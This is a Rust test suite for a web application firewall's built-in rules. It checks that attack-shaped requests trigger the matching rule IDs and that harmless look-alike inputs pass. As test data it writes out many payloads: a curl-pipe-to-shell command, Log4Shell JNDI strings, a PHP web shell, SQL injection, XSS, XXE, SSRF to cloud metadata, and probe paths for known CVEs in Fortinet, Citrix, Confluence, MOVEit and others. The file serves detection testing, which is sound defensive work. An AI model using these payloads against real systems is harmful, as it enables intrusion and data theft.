//! Requests that each built-in rule must detect.

use crate::send::{FORM, Sent, run, view};

fn get(target: &str) -> Sent {
    Sent::get(target)
}

fn header(name: &str, value: &str) -> Sent {
    Sent::get("/").with(name, value)
}

fn value(text: &str) -> Sent {
    Sent::query("/page", &[("x", text.as_bytes())])
}

fn json(target: &str, body: &str) -> Sent {
    Sent::post(target, "application/json", body)
}

fn method(method: &'static str, target: &str) -> Sent {
    Sent { method, ..Sent::get(target) }
}

fn check(cases: Vec<(Sent, u64)>) {
    let view = view(&crate::builtin(), &[]);
    let mut passing = Vec::new();
    for (sent, id) in cases {
        let outcome = run(&view, &sent);
        if !outcome.ids.contains(&id) || outcome.denied.is_none() {
            let target = String::from_utf8_lossy(&sent.target).into_owned();
            passing.push(format!("{id}: {target} {:?}: {outcome:?}", sent.headers.last()));
        }
    }
    assert!(passing.is_empty(), "{}", passing.join("\n"));
}

#[test]
fn kinds_of_attacks_are_found() {
    check(vec![
        (method("TRACE", "/"), 1_001_001),
        (header("Content-Length", "+5"), 1_001_002),
        (header("Transfer-Encoding", "xchunked"), 1_001_003),
        (get("/a%0d%0aX-B:%20c"), 1_001_010),
        (get("/public/..;/admin"), 1_001_011),
        (get("/secure/..%2fadmin"), 1_001_011),
        (get("/login;..%5cadmin"), 1_001_012),
        (value("a\r\nSet-Cookie: x=y"), 1_001_020),
        (value("a\r\nGET /admin HTTP/1.1"), 1_001_021),
        (value("a\0b"), 1_001_022),
        (header("User-Agent", "sqlmap/1.7#stable"), 1_001_501),
        (header("User-Agent", "Mozilla/5.0 (Nikto/2.5.0)"), 1_001_501),
        (header("X-Wvs-Id", "1"), 1_001_502),
        (value("http://c59h2.oast.fun"), 1_001_503),
        (value("../../../etc/passwd"), 1_002_001),
        (value("/etc/shadow"), 1_002_010),
        (value("C:\\Windows\\win.ini"), 1_002_012),
        (value("/proc/self/environ"), 1_002_013),
        (get("/.git/config"), 1_002_015),
        (get("/backup/db.sql.gz"), 1_002_015),
        (value("1' or '1'='1"), 1_003_001),
        (value("1 union/**/select 1,2,3"), 1_003_003),
        (value("<script>alert(1)</script>"), 1_003_501),
        (value("\"><img src=x onerror=alert(1)>"), 1_003_505),
        (value("1;cat /etc/hosts"), 1_004_002),
        (value("|whoami"), 1_004_012),
        (value("$(curl -s http://x/a|sh)"), 1_004_003),
        (value("powershell -enc SQBFAFgA"), 1_004_008),
        (value("<!--#exec cmd=\"id\"-->"), 1_004_009),
        (value("${jndi:ldap://x/a}"), 1_005_003),
        (header("X-Api-Version", "${${::-j}${::-n}di:ldap://x/a}"), 1_005_002),
        (value("<?php system($_GET['c']); ?>"), 1_005_010),
        (value("O:8:\"Evil\\Gun\":1:{s:1:\"a\";i:1;}"), 1_005_013),
        (value("php://filter/read=convert.base64-encode/resource=x"), 1_005_014),
        (value("(#a=@java.lang.Runtime@getRuntime().exec('id'))"), 1_005_020),
        (value("rO0ABXNyABFqYXZhLnV0aWwuSGFzaA=="), 1_005_021),
        (value("AAEAAAD/////AQAAAAAAAAAMAgAAAF"), 1_005_022),
        (value("!!python/object/apply:os.system ['id']"), 1_005_023),
        (value("require('child_process').exec('id')"), 1_005_030),
        (Sent::query("/", &[("__proto__[admin]", b"1")]), 1_005_031),
        (json("/", r#"{"__proto__":{"admin":true}}"#), 1_005_032),
        (value("{{7*7}}"), 1_005_040),
        (value("{{''.__class__.__mro__[1].__subclasses__()}}"), 1_005_041),
        (value("__import__('os').system('id')"), 1_005_043),
        (value("*)(uid=*))(|(uid=*"), 1_006_001),
        (value("' or count(parent::*)=1 or 'a'='b"), 1_006_002),
        (Sent::query("/", &[("user[$ne]", b"1")]), 1_006_003),
        (json("/", r#"{"user":{"$gt":""}}"#), 1_006_003),
        (value("{\"$where\": \"sleep(100)\"}"), 1_006_004),
        (
            Sent::post(
                "/",
                "text/xml",
                "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
            ),
            1_006_013,
        ),
        (value("<!DOCTYPE a SYSTEM 'http://evil.example/x.dtd'>"), 1_006_010),
        (
            Sent::post(
                "/",
                "text/xml",
                "<a>1' union<b/> select<b/> password<c> </c>from users-- -</a>",
            ),
            1_003_001,
        ),
        (value("http://169.254.169.254/latest/meta-data/"), 1_007_001),
        (value("gopher://127.0.0.1:6379/_x"), 1_007_002),
        (value("http://localhost:6379/"), 1_007_003),
        (value("http://2130706433/"), 1_007_004),
        (value("http://evil.example/shell.txt?"), 1_007_010),
        (value("http://198.51.100.7/x.sh"), 1_007_012),
        (get("/?PHPSESSID=abc").with("Referer", "https://evil.example/"), 1_007_021),
    ]);
}

#[test]
fn links_within_a_site_may_carry_a_session() {
    let view = view(&crate::builtin(), &[]);
    let within = get("/?PHPSESSID=abc").with("Referer", "https://www.example.com/cart");
    assert_eq!(run(&view, &within).denied, None);
}

#[test]
fn what_looks_alike_passes() {
    let view = view(&crate::builtin(), &[]);
    for sent in [
        Sent::form(
            "/login",
            &[("uname", b"john doe"), ("id", b"7"), ("host", b"a"), ("type", b"file")],
        ),
        value("(&(objectCategory=computer)(name=srv*))"),
        value("while (foo) is bar."),
        value("Bezeichnungen sind Haßfelt (1319)"),
        value("\\xd0\\xb0\\xd0\\xb1\\xd0\\xb2\\xd0\\xb3"),
        value("java.lang.NullPointerException"),
        value("/index.html"),
        get("/shop;jsessionid=1A2B/cart"),
        header("User-Agent", "urlgrabber/3.10 yum/3.4.3"),
    ] {
        let outcome = run(&view, &sent);
        assert_eq!(
            outcome.score,
            0,
            "{:?}: {}",
            outcome.ids,
            String::from_utf8_lossy(&sent.target)
        );
    }
}

/// Messages of rules, each with a request that the rule detects.
fn exploits() -> Vec<(&'static str, Sent)> {
    let mut all = older_exploits();
    all.extend(newer_exploits());
    all
}

fn older_exploits() -> Vec<(&'static str, Sent)> {
    vec![
        ("Shellshock", header("User-Agent", "() { :;}; /bin/cat /etc/passwd")),
        (
            "Struts: expression in Content-Type",
            header("Content-Type", "%{(#_='multipart/form-data').(#x=1)}"),
        ),
        ("Struts: expression in the path", get("/struts/$%7B(111+111)%7D/actionChain.action")),
        (
            "Spring4Shell",
            Sent::post(
                "/",
                FORM,
                "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
            ),
        ),
        (
            "Spring Cloud Function",
            header("spring.cloud.function.routing-expression", "T(java.lang.Runtime)"),
        ),
        ("Spring Cloud Gateway", get("/actuator/gateway/routes/x")),
        (
            "ProxyShell",
            get(
                "/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.com",
            ),
        ),
        ("ProxyLogon", header("Cookie", "X-BEResource=a/b?~1942062522")),
        ("Citrix ADC: traversal", get("/vpn/../vpns/cfg/smb.conf")),
        (
            "F5 BIG-IP: traversal",
            get("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
        ),
        ("F5 BIG-IP: iControl REST without", json("/mgmt/tm/util/bash", "{}")),
        ("Confluence: expression", get("/%24%7B%28%23a%3D%40org.apache%40x%28%29%29%7D/")),
        (
            "Confluence: set-up",
            get(
                "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false",
            ),
        ),
        ("Confluence: template", get("/template/aui/text-inline.vm")),
        ("vBulletin: widget", get("/index.php?routestring=ajax/render/widget_php")),
        ("PHP-CGI", get("/index.php?-d+allow_url_include%3d1")),
        ("PHP-CGI", get("/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0")),
        ("PHPUnit", get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")),
        (
            "ThinkPHP",
            get(
                "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
            ),
        ),
        ("Laravel", json("/_ignition/execute-solution", "{}")),
        ("Drupalgeddon 2", Sent::query("/user/register", &[("mail[#post_render][]", b"exec")])),
        ("MOVEit", Sent::get("/moveitisapi/moveitisapi.dll?action=m2")),
        ("GoAnywhere MFT: first", get("/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml")),
        ("GoAnywhere MFT", get("/goanywhere/lic/accept")),
        (
            "Ivanti Connect Secure: traversal",
            get("/api/v1/totp/user-backup-code/../../license/keys-status/x"),
        ),
    ]
}

fn newer_exploits() -> Vec<(&'static str, Sent)> {
    vec![
        (
            "Pulse Secure",
            get(
                "/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd?/dana/html5acc/guacamole/",
            ),
        ),
        (
            "FortiOS: file read",
            get("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
        ),
        ("FortiOS: API", get("/api/v2/cmdb/system/admin").with("User-Agent", "Report Runner")),
        ("Apache httpd", get("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd")),
        ("Apache httpd", get("/icons/%%32%65%%32%65/%%32%65%%32%65/etc/passwd")),
        ("Tomcat", method("PUT", "/shell.jsp/")),
        ("WebLogic: console", get("/console/css/%252e%252e%252fconsole.portal")),
        ("WebLogic: asynchronous", get("/wls-wsat/CoordinatorPortType")),
        ("JBoss", get("/invoker/readonly")),
        (
            "Solr: template",
            get("/solr/x/select?q=1&wt=velocity&v.template=custom&v.template.custom=a"),
        ),
        ("Jenkins: command line", get("/cli?remoting=false").with("Side", "download")),
        ("TeamCity: token", get("/app/rest/users/id:1/tokens/RPC2")),
        ("TeamCity: log-in", get("/hax?jsp=/app/rest/server;.jsp")),
        ("vCenter: upload", get("/ui/vropspluginui/rest/services/uploadova")),
        (
            "Workspace ONE",
            get("/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22x%22%7d"),
        ),
        ("ScreenConnect", get("/SetupWizard.aspx/x")),
        ("PAN-OS: GlobalProtect", header("Cookie", "SESSID=/../../../opt/panlogs/x")),
        ("Check Point", Sent::post("/clients/MyCRL", "text/plain", "aCSHELL/../../../etc/shadow")),
        ("Cisco IOS XE", get("/%2577eb%2575i_%2577sma_Http")),
        (
            "Cisco ASA",
            get("/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua"),
        ),
        ("Hikvision", Sent { method: "PUT", ..Sent::post("/SDK/webLanguage", "text/plain", "x") }),
        ("TP-Link", get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)")),
        ("Grafana", get("/public/plugins/alertlist/../../../../etc/passwd")),
        (
            "WordPress: File Manager",
            get("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"),
        ),
        ("Control Web Panel", get("/login/index.php?login=$(echo${IFS}x)")),
        ("Joomla: object", header("User-Agent", "}__test|O:21:\"JDatabaseDriverMysqli\":3:{")),
    ]
}

#[test]
fn known_exploits_are_found() {
    let exploit = |number: u64| 1_008_000 + number;
    let by_message = |needle: &str| {
        let rules = crate::builtin();
        let found = rules.rules.iter().find(|rule| {
            rule.message_text().is_some_and(|text| text.contains(needle)) && rule.id > exploit(0)
        });
        found.unwrap_or_else(|| panic!("no rule says {needle}")).id
    };
    let cases = exploits();
    check(cases.into_iter().map(|(message, sent)| (sent, by_message(message))).collect());
}

const SQL: &str = "1' union select password from users-- -";

/// Applications parse bodies whatever their media type is.
#[test]
fn bodies_of_any_type_of_text_are_judged() {
    let view = view(&crate::builtin(), &[]);
    let json = format!(r#"{{"q":"{SQL}"}}"#);
    let escaped = r#"{"q":"\u0031' \u0075nion select password from users-- -"}"#;
    let form = "a=1&q=1%27+%75nion+select+password+from+users--+-";
    let padded = format!("{}{SQL}", "harmless words ".repeat(20_000));
    for kind in [
        "text/json",
        "text/x-json",
        "application/x-json",
        "application/csp-report",
        "application/grpc+json",
        "application/graphql",
        "application/javascript; charset=utf-8",
        "text/plain",
        "Text/Plain;charset=UTF-8",
        "text/html",
        "*/*",
        "json",
        "",
    ] {
        for body in [&json[..], escaped] {
            assert!(run(&view, &Sent::post("/", kind, body)).denied.is_some(), "{kind}: {body}");
        }
    }
    let untyped = |body: &str| {
        let mut sent = Sent::post("/", "text/plain", body);
        sent.headers.retain(|(name, _)| name != "Content-Type");
        sent
    };
    for body in [&json[..], escaped, form, SQL, &padded, "<p>a</p><script>alert(1)</script>"] {
        assert!(run(&view, &Sent::post("/", "text/plain", body)).denied.is_some(), "{body:.80}");
        assert!(run(&view, &untyped(body)).denied.is_some(), "{body:.80}");
    }
    for body in ["a=1&b=2&id=3&ls=4", r#"{"a":[1,"b"]}"#, "Some words; others = none.", "{", "<"] {
        let outcome = run(&view, &Sent::post("/", "text/plain", body));
        assert_eq!(outcome.score, 0, "{body}: {outcome:?}");
    }
    for kind in ["application/octet-stream", "image/png", "application/zip"] {
        assert!(run(&view, &Sent::post("/", kind, &padded[..])).denied.is_some(), "{kind}");
    }
}

/// Some servers parse every multipart type as a form.
#[test]
fn multipart_of_any_kind_is_judged() {
    let view = view(&crate::builtin(), &[]);
    let body = |header: &str, value: &str| {
        format!(
            "--B\r\n{header}\r\n\r\n{value}\r\n--B\r\nContent-Type: image/png\r\n\r\n\x01\r\n--B--\r\n"
        )
    };
    for kind in ["mixed", "related; type=\"text/xml\"", "x"] {
        let kind = format!("multipart/{kind}; boundary=B");
        for header in [
            "Content-Disposition: form-data; name=\"q\"",
            "Content-Disposition: attachment; name=\"q\"",
            "Content-Type: text/plain",
            "Content-Type: application/json; charset=utf-8",
            "Content-ID: <a>",
        ] {
            let attack = run(&view, &Sent::post("/", &kind, body(header, SQL)));
            assert!(attack.denied.is_some(), "{kind}, {header}");
            let harmless = run(&view, &Sent::post("/", &kind, body(header, "some words")));
            assert_eq!(harmless.score, 0, "{kind}, {header}: {harmless:?}");
        }
        for header in [
            "Content-Disposition: attachment; filename=\"a\"",
            "Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64",
        ] {
            let file = run(&view, &Sent::post("/", &kind, body(header, SQL)));
            assert_eq!(file.score, 0, "{kind}, {header}: {file:?}");
        }
    }
}

/// Cookies of analytics and consent managers.
const TOLD_BY_SCRIPTS: [&str; 17] = [
    "CookieConsent={stamp:%27oR-DP8WAFv3G9x_IWs1DjWDcV-Tmmd==%27%2Cnecessary:true%2Cver:1}",
    "_ga=GA1.2.1234567890.1699999999",
    "_ga_1A2B3C4D5E=GS1.1.1699999999.3.1.1699999999.0.0.0",
    "_gid=GA1.2.1234567890.1699999999",
    "_gcl_au=1.1.1234567890.1699999999",
    "_gcl_aw=GCL.1699999999.CjwKCAjw-eKpBhAbEiwAqFL0mh_x-AbC",
    "_fbp=fb.1.1699999999999.1234567890",
    "_fbc=fb.1.1699999999999.IwAR0abc-DEF_ghi",
    "_pk_id.1.1fff=1a2b3c4d5e6f7081.1699999999.",
    "_pk_ref.1.1fff=%5B%22newsletter%22%2C%22%22%2C1699999999%2C%22https%3A%2F%2Fwww.google.com%2F%22%5D",
    "_pk_cvar.1.1fff=%7B%221%22%3A%5B%22type%22%2C%22visitor%22%5D%7D",
    "__utmz=1.1699999999.1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic|utmctr=(not%20provided)",
    "__utma=1.123456789.1699999999.1699999999.1699999999.1",
    "CookieConsent={stamp:%27aBcD+/efgHIJ==%27%2Cnecessary:true%2Cpreferences:false%2Cstatistics:true%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1%2Cutc:1699999999999%2Cregion:%27de%27}",
    "OptanonConsent=isGpcEnabled=0&datestamp=Mon+May+06+2024+12%3A00%3A00+GMT%2B0200+(Central+European+Summer+Time)&version=202403.1.0&isIABGlobal=false&hosts=&consentId=1a2b3c4d-0000-4000-8000-1a2b3c4d5e6f&interactionCount=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A0&geolocation=DE%3BBY&AwaitingReconsent=false",
    "euconsent-v2=CPzZzZzPzZzZzAcABBENDaCsAP_AAH_AAAqIJrNf_X__b2_j-_5_f_t0eY1P9_7__-0zjhfdl-8N3f_X_L8X_2M7v36tq4KuR4Eu3LBIQVlHOHcTUmw6okVryPsbk2cr7NKJ7PEmnMbOydYGH9_n13T-ZKY7_____77_f_-_7_v____3___-f",
    "__cf_bm=aBcD.efgH_ijk-1699999999-0-AbCdEf+/gh==",
];

#[test]
fn cookies_of_scripts_pass_and_attacks_in_them_do_not() {
    for level in ["1", "2"] {
        let view = view(&crate::builtin(), &[("blocking_paranoia_level", level)]);
        let mut wrong = Vec::new();
        for cookie in TOLD_BY_SCRIPTS {
            let outcome = run(&view, &header("Cookie", cookie));
            if outcome.score > 0 {
                wrong.push(format!("{level} {cookie:.60}: {outcome:?}"));
            }
        }
        for name in [
            "_gallery",
            "_gax",
            "_fbpx",
            "_pk_x",
            "_ga",
            "_gid",
            "__utmz",
            "CookieConsentx",
            "CookieConsent",
        ] {
            for attack in [SQL, "<script>alert(document.cookie)</script>"] {
                let outcome = run(&view, &header("Cookie", &format!("{name}={attack}")));
                if outcome.denied.is_none() {
                    wrong.push(format!("{name}={attack}: {outcome:?}"));
                }
            }
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }
}

/// Lenient parsers and databases treat some characters as their ASCII equivalents.
#[test]
fn characters_in_other_forms_are_judged() {
    let full_width = |text: &str| -> String {
        let folded = |it: char| char::from_u32(it as u32 + 0xfee0).unwrap_or(it);
        text.chars().map(|it| if it.is_ascii_graphic() { folded(it) } else { it }).collect()
    };
    check(vec![
        (get("/?q=%c0%bcscript%c0%bealert(1)"), 1_001_023),
        (get("/?q=%e0%80%bcscript%e0%80%be"), 1_001_023),
        (get("/?q=%f0%80%80%bcscript"), 1_001_023),
        (Sent::post("/", FORM, "q=1%c0%a7+union+select+password+from+users--+-"), 1_003_099),
        (get("/?a=b").with("Cookie", "q=%c0%bcscript"), 1_001_023),
        (value("＜script＞alert(1)＜/script＞"), 1_003_512),
        (value(&full_width("<img src=x onerror=alert(1)>")), 1_003_512),
        (value("x＂ onmouseover=alert(1) y=＂"), 1_003_512),
        (Sent::post("/", FORM, "q=%EF%BC%9Csvg+onload%3Dalert(1)%EF%BC%9E"), 1_003_512),
        (value("1＇ union select password from users-- -"), 1_003_099),
        (json("/", r#"{"q":"\uff1cscript\uff1ealert(1)"}"#), 1_003_512),
    ]);
    let view = view(&crate::builtin(), &[]);
    for text in [
        "ＡＢＣ株式会社（東京）；電話：０３－１２３４－５６７８",
        "価格＜１０００円、＞５００円",
        "彼は＂はい＂と言った＇",
        "你好；世界（中国）！",
        "À la carte, Ávila, ÀÉ, Чай, Айвенго, Ајвар",
        "𝒳 😀 ሀ ༀ",
    ] {
        let outcome = run(&view, &value(text));
        assert_eq!(outcome.score, 0, "{text}: {outcome:?}");
    }
    // Texts in Latin-1, Windows-1251, EUC-KR and GBK.
    for text in [
        &b"\xc0 la carte, \xc1vila"[..],
        b"\xc0\xe9\xe2\xe0\xed, \xc0\xb3\xc0\xbf\xe4\xe0",
        b"1\xc0\xa7 or \xc0\xaf, \xc0\xbc",
        b"\xc0\xbc\xd6\xdd \xc0\xa7\xc4\xd1 = \xc0\xbe",
    ] {
        let outcome = run(&view, &Sent::query("/", &[("x", text)]));
        assert_eq!(outcome.score, 0, "{text:?}: {outcome:?}");
    }
}
